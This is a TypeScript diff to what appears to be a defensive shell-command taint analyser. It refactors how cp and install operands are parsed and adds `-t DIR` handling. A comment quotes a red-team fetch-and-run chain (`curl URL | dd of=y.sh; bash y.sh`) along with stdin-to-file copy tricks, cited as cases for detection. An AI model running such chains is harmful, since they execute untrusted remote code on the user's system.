@@ -1,9 +1,7 @@
 import type { Word } from "../syntax.ts";
+import { copyArgs } from "./copy-args.ts";
 import { wordFrom } from "./getopt.ts";
 import { stdinPath } from "./stdin-path.ts";
-
-// Options of install whose value is the next word.
-const INSTALL_VALUED = new Set(["-m", "-o", "-g", "-S", "--mode", "--owner", "--group", "--suffix"]);
 
 /**
  * dd's `if=` and `of=` operands, without the `if=`/`of=`: GNU dd takes the last of each
@@ -17,15 +15,10 @@ export function ddFiles(args: Word[]): { input?: Word; output?: Word } {
   return { input: last("if="), output: last("of=") };
 }
 
-/** The operands of cp or install (install's option values skipped). */
-export function copyOperands(name: string, args: Word[]): Word[] {
-  const files: Word[] = [];
-  for (let i = 0; i < args.length; i++) {
-    const v = args[i]!.value;
-    if (name === "install" && INSTALL_VALUED.has(v)) i++;
-    else if (!v.startsWith("-") || v === "-") files.push(args[i]!);
-  }
-  return files;
+/** What cp or install copies and where to, as copy-args.ts reads their options (`-t DIR` too). */
+export function copyEnds(name: string, args: Word[]): { sources: Word[]; dest?: Word } {
+  const { files, target } = copyArgs(name, args);
+  return target ? { sources: files, dest: target } : { sources: files.slice(0, -1), dest: files.at(-1) };
 }
 
 /** Whether a copy's source word reads stdin: a stdin path, or `-` (a file named `-` to cp, but read as stdin by other tools). */
@@ -34,7 +27,7 @@ export const copiesStdin = (a: Word) => !a.dynamic && (a.value === "-" || stdinP
 /**
  * The files a program writes its stdin into by naming them (red team 5: `curl URL | dd of=y.sh;
  * bash y.sh`): `tee FILE…`, `sponge FILE` (its first operand only), `dd of=FILE` reading stdin, and
- * a copy whose source is stdin (`cp /dev/stdin f`, `install -m755 /dev/stdin f`, `-`).
+ * a copy whose source is stdin (`cp /dev/stdin f`, `install -m755 /dev/stdin f`, `cp -t d /dev/stdin`, `-`).
  * Redirections are the caller's. taint.ts taints them; script-writers.ts records the text.
  */
 export function stdinWrites(name: string, args: Word[]): Word[] {
@@ -47,9 +40,8 @@ export function stdinWrites(name: string, args: Word[]): Word[] {
     return fromStdin && output ? [output] : [];
   }
   if (name === "cp" || name === "install") {
-    const files = copyOperands(name, args);
-    const dest = files.at(-1);
-    return dest && files.slice(0, -1).some(copiesStdin) ? [dest] : [];
+    const { sources, dest } = copyEnds(name, args);
+    return dest && sources.some(copiesStdin) ? [dest] : [];
   }
   return [];
 }
